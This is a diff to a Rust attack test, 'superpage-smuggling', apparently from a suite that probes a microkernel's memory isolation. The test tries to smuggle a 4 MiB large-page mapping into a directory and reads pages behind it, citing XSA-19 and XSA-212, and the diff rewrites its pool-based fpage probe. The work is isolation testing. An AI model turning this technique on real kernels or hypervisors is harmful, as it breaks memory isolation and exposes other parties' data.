@@ -1,8 +1,8 @@
 //! An entry that maps 4 MiB at once, or another bit that was not asked for, in a directory.
 //!
 //! It hooks an empty Table with each bit of the immediate that the call has, and with several; into its own space and into
-//! one that it has made. It passes words with bit 7 to Update and Validate. With a pool it also unmaps and passes on fpages
-//! of 4 MiB of which it has less.
+//! one that it has made. It passes words with bit 7 to Update and Validate. With a pool it maps an fpage of 4
+//! MiB onward of which it has one page.
 //!
 //! Success would mean: 4 MiB of somebody's memory appear behind one directory entry (XSA-19, -212). Evidence: a page behind
 //! the hook of a Table without entries can be read.
@@ -15,12 +15,12 @@
 
 use freehold_attacks::edge::{self, Ground, page, probe, update};
 use freehold_attacks::rt::abi::Call;
-use freehold_attacks::rt::abi::designs::Fpage;
 use freehold_attacks::rt::abi::layout::{BLOCK, ENTRIES, FRAME};
 use freehold_attacks::rt::call;
 use freehold_attacks::rt::calls;
 use freehold_attacks::rt::roots::Extent;
 use freehold_attacks::rt::{CapName, Rights, memory};
+use freehold_attacks::world::World;
 use freehold_attacks::{Evidence, Kit, attack, format, idle};
 
 attack!("superpage-smuggling", attacker, idle);
@@ -42,6 +42,8 @@ fn work(kit: &mut Kit) -> Evidence {
         return kit.impossible("no memory to try it with");
     };
     let at = table.index() + 1;
+    let obtained = |mut world: World| world.obtain(POOLED).is_ok().then_some(world);
+    let mut pool = if kit.design.has_pool() { World::new(kit).ok().and_then(obtained) } else { None };
     loop {
         for bit in 0..IMMEDIATE_BITS {
             for immediate in
@@ -67,7 +69,7 @@ fn work(kit: &mut Kit) -> Evidence {
         if let Some(entry) = words(kit, &ground, frame) {
             return kit.broken(format!("an entry {entry:#x}"));
         }
-        if kit.design.has_pool() && by_fpage(kit) {
+        if pool.as_mut().is_some_and(|world| by_fpage(kit, world)) {
             return kit.broken("pages around a page of the pool can be read");
         }
         if kit.stopped() {
@@ -92,17 +94,14 @@ fn words(kit: &mut Kit, ground: &Ground, frame: Extent) -> Option<u32> {
     (entry & LARGE != 0).then_some(entry)
 }
 
-/// A page of the pool at the beginning of 4 MiB, and an fpage of all of them.
-fn by_fpage(kit: &mut Kit) -> bool {
-    let base = (edge::PIECES + 8) * BLOCK;
-    let Some(frame) = memory::take(1, 1) else { return false };
+/// Where a page of the pool lies, at the beginning of 4 MiB.
+const POOLED: u32 = (edge::PIECES + 32) * BLOCK;
+
+/// An fpage of 4 MiB, of which it has one page, mapped onward.
+fn by_fpage(kit: &mut Kit, world: &mut World) -> bool {
     kit.tries += 1;
-    let range = calls::range(frame.first, 1);
-    let given = calls::give(frame.container, range, CapName::NONE, base, Rights::WRITE);
-    let seen = given.is_ok() && {
-        let _ = calls::fpage_unmap(Fpage::new(base, 10, 0), false);
-        LOOKED_AT[1..].iter().any(|page| probe::read(base + page * FRAME).is_some())
-    };
-    let _ = memory::release(frame);
-    seen
+    let mapped = world.alias(POOLED, POOLED + BLOCK, ENTRIES);
+    let seen = LOOKED_AT[1..].iter().any(|page| probe::read(POOLED + BLOCK + page * FRAME).is_some());
+    let _ = world.revoke(POOLED, ENTRIES);
+    mapped.is_ok() && seen
 }
